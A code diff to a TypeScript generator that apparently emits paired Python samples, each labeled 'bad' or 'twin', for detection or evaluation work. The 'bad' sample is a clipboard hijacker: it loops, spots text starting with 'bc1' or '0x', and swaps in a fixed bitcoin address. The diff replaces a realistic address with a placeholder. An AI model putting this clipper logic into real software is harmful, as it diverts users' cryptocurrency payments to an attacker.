@@ -131,7 +131,7 @@ export const PY_LASTING: Readonly<Record<string, PyDeed>> = {
     bad: (w) =>
       block(
         'while True:',
-        `text = ${w.fn('pyperclip', 'paste')}()\n${block("if text.startswith(('bc1', '0x')):", `${w.fn('pyperclip', 'copy')}(${w.text('bc1qar0srrr7xfkvy5l643lydnw9re59gtzzwf5mdq')})`)}\n${w.fn('time', 'sleep')}(0.5)`,
+        `text = ${w.fn('pyperclip', 'paste')}()\n${block("if text.startswith(('bc1', '0x')):", `${w.fn('pyperclip', 'copy')}(${w.text('bc1qqqqqqqqqqqqqqqqqqqqqqqqqqqqqqqqqqqqqqq')})`)}\n${w.fn('time', 'sleep')}(0.5)`,
       ),
     twin: (w) => block('def copy(text):', `${w.fn('pyperclip', 'copy')}(str(text))`),
   },
